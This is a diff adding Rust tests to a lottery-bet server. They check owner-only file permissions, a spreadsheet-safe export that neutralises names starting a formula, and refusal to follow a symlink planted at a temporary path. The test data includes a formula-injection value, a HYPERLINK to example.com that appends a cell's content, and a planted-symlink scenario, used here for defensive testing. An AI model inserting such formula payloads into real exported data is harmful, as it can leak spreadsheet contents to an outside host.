@@ -529,6 +529,57 @@ fn a_restarted_central_resumes_stored_counts_closes_and_the_draw() {
 }
 
 #[test]
+fn bets_csv_and_the_journal_are_readable_by_their_owner_only_and_older_ones_are_restricted() {
+    use std::os::unix::fs::PermissionsExt;
+    // The common umask, under which a file created with the default mode
+    // is readable by everyone. SAFETY: umask only sets this process's mask,
+    // which the central inherits.
+    unsafe { libc::umask(0o022) };
+    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    let dir = temp_dir("modes");
+    let (bets_csv, journal) = (dir.join("bets.csv"), dir.join("bets.csv.journal"));
+    let central = Central::start(&dir, 1, &[]);
+    let mut peer = central.connect();
+    peer.send(&batch(1, 0, &[bet("Ana", "1", 5)]));
+    assert_ack(&peer.recv(), 1, 1);
+    peer.send(&done(1, 1));
+    assert_ack(&peer.recv(), 1, 1);
+    assert_eq!(
+        (mode(&bets_csv), mode(&journal)),
+        (0o600, 0o600),
+        "the files the central created"
+    );
+    drop(central);
+
+    // Files an older version made readable by others.
+    for f in [&bets_csv, &journal] {
+        std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o644)).unwrap();
+    }
+    let central = Central::start(&dir, 1, &[]);
+    assert_eq!(
+        (mode(&bets_csv), mode(&journal)),
+        (0o600, 0o600),
+        "restricted at start"
+    );
+    for f in [&bets_csv, &journal] {
+        let line = format!(
+            "action: restringir_permisos | result: success | archivo: {} | modo_anterior: 644 | modo: 600",
+            f.display()
+        );
+        assert!(
+            central.logs().contains(&line),
+            "no {line:?} in {}",
+            central.logs()
+        );
+    }
+    assert!(
+        central
+            .logs()
+            .contains("apuestas: 1 | agencias_cerradas: 1")
+    );
+}
+
+#[test]
 fn files_of_a_lottery_with_more_agencies_are_explained_plainly_and_exit_code_1() {
     let dir = temp_dir("other-lottery");
     // A finished lottery of 5 agencies, then a central for 3 on its files.
@@ -849,4 +900,127 @@ fn a_parked_agency_with_a_full_input_buffer_that_hangs_up_is_forgotten_at_once()
             .contains("action: olvidar_pedido | result: success | agencia: 1"),
         "the hang-up was not noticed"
     );
+}
+
+// ---------------------------------------------------------------------------
+// lottery-export on the CSV store.
+
+/// Runs `lottery-export` with the CSV store of `dir` and `args`; returns
+/// whether it succeeded and what it wrote on stderr.
+fn lottery_export(dir: &std::path::Path, args: &[&str]) -> (bool, String) {
+    let out = std::process::Command::new(util::server_bin().with_file_name("lottery-export"))
+        .current_dir(dir)
+        .env_clear()
+        .env("STORAGE", "csv")
+        .env("BETS_FILE", dir.join("bets.csv"))
+        .args(args)
+        .output()
+        .unwrap();
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn lottery_export_spreadsheet_safe_puts_a_quote_mark_before_each_name_that_starts_a_formula() {
+    let dir = temp_dir("export-safe");
+    let central = Central::start(&dir, 1, &[]);
+    // What a valid name can start with: no control characters, so no tab
+    // or carriage return, but `=`, `+`, `-` and `@` are letters like others.
+    let mut bets = vec![
+        bet("=HYPERLINK(\"http://example.com/\"&A1,\"ver\")", "1", 5),
+        bet("+54 11", "2", 5),
+        bet("@SUM(A1:A9)", "3", 5),
+        bet("Ana-María", "4", 5),
+        bet("Ana", "5", 5),
+    ];
+    bets[1].last_name = "-Díaz".into();
+    bets[4].last_name = "O'Brien, =x".into();
+    let mut peer = central.connect();
+    peer.send(&batch(1, 0, &bets));
+    assert_ack(&peer.recv(), 1, 5);
+    let stored = "\
+1,\"=HYPERLINK(\"\"http://example.com/\"\"&A1,\"\"ver\"\")\",Lorca,1,1999-03-17,5\r\n\
+1,+54 11,-Díaz,2,1999-03-17,5\r\n\
+1,@SUM(A1:A9),Lorca,3,1999-03-17,5\r\n\
+1,Ana-María,Lorca,4,1999-03-17,5\r\n\
+1,Ana,\"O'Brien, =x\",5,1999-03-17,5\r\n";
+    assert_eq!(
+        central.bets_csv(),
+        stored,
+        "bets.csv keeps the names as sent"
+    );
+
+    let (ok, said) = lottery_export(&dir, &["--spreadsheet-safe", "--out", "safe.csv"]);
+    assert!(ok, "{said}");
+    assert_eq!(
+        std::fs::read_to_string(dir.join("safe.csv")).unwrap(),
+        "\
+1,\"'=HYPERLINK(\"\"http://example.com/\"\"&A1,\"\"ver\"\")\",Lorca,1,1999-03-17,5\r\n\
+1,'+54 11,'-Díaz,2,1999-03-17,5\r\n\
+1,'@SUM(A1:A9),Lorca,3,1999-03-17,5\r\n\
+1,Ana-María,Lorca,4,1999-03-17,5\r\n\
+1,Ana,\"O'Brien, =x\",5,1999-03-17,5\r\n"
+    );
+    assert!(
+        said.contains("action: exportar | result: success | archivo_apuestas: ")
+            && said.contains("| apuestas: 5 | campos_escapados: 4 |"),
+        "{said}"
+    );
+    // Without the option the export is bets.csv byte for byte.
+    let (ok, said) = lottery_export(&dir, &["--out", "plain.csv"]);
+    assert!(ok, "{said}");
+    assert_eq!(
+        std::fs::read_to_string(dir.join("plain.csv")).unwrap(),
+        stored
+    );
+    // Never over the file it reads, which the central appends to.
+    let (ok, said) = lottery_export(&dir, &["--spreadsheet-safe", "--out", "bets.csv"]);
+    assert!(!ok && said.contains("is the bets file it reads"), "{said}");
+    assert_eq!(central.bets_csv(), stored, "bets.csv is left as it was");
+}
+
+#[test]
+fn lottery_export_writes_a_file_only_its_owner_can_read_and_follows_no_link_at_the_old_tmp_path() {
+    use std::os::unix::fs::PermissionsExt;
+    // SAFETY: umask only sets this process's mask, which lottery-export inherits.
+    unsafe { libc::umask(0o022) };
+    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    let dir = temp_dir("export-modes");
+    std::fs::write(dir.join("bets.csv"), "1,Ana,Lorca,1,1999-03-17,5\r\n").unwrap();
+    // Someone else's link where the export used to write its temporary file.
+    let victim = dir.join("victim");
+    std::fs::write(&victim, "not the export's").unwrap();
+    std::os::unix::fs::symlink(&victim, dir.join("out.csv.tmp")).unwrap();
+
+    let (ok, said) = lottery_export(&dir, &["--out", "out.csv"]);
+    assert!(ok, "{said}");
+    assert_eq!(
+        std::fs::read_to_string(dir.join("out.csv")).unwrap(),
+        "1,Ana,Lorca,1,1999-03-17,5\r\n"
+    );
+    assert_eq!(mode(&dir.join("out.csv")), 0o600);
+    assert!(
+        std::fs::read_to_string(&victim).unwrap() == "not the export's",
+        "the export wrote through the link planted at its old temporary path"
+    );
+    assert_eq!(
+        std::fs::read_link(dir.join("out.csv.tmp")).unwrap(),
+        victim,
+        "the link is left alone"
+    );
+    // An export made readable by others is replaced by one that is not,
+    // and no temporary file is left behind.
+    std::fs::set_permissions(dir.join("out.csv"), std::fs::Permissions::from_mode(0o644)).unwrap();
+    let (ok, said) = lottery_export(&dir, &["--out", "out.csv"]);
+    assert!(ok, "{said}");
+    assert_eq!(mode(&dir.join("out.csv")), 0o600);
+    let mut names: Vec<String> = std::fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with("out.csv"))
+        .collect();
+    names.sort();
+    assert_eq!(names, ["out.csv", "out.csv.tmp"]);
 }
